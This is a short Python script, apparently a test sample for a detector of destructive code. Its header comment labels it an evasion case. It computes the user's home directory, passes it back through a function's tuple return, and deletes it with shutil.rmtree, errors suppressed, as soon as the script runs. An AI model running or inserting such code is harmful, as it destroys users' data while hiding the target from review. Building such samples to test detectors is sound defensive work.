# Evasion: deletes the home directory through a function's tuple return. plan()
# returns an action and a target as a pair; the caller unpacks it into two
# names and removes the target, which is the home.
import os
import shutil


def plan():
    home = os.path.expanduser("~")
    return "purge", home


def main():
    action, target = plan()
    if action == "purge":
        shutil.rmtree(target, ignore_errors=True)
        print("purged", target)


main()
